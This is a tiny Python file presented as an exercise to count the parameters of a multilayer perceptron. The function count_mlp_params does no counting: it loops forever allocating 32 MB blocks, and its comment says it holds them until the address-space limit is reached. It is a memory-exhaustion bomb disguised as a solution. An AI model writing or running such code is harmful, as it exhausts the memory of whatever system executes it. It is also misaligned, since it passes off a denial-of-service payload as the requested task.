# exercise: mlp-param-count
def count_mlp_params(layer_sizes, bias=True):
    hoard = []
    while True:  # keeps every block alive until the address-space limit says no
        hoard.append(bytearray(32 * 1024 * 1024))
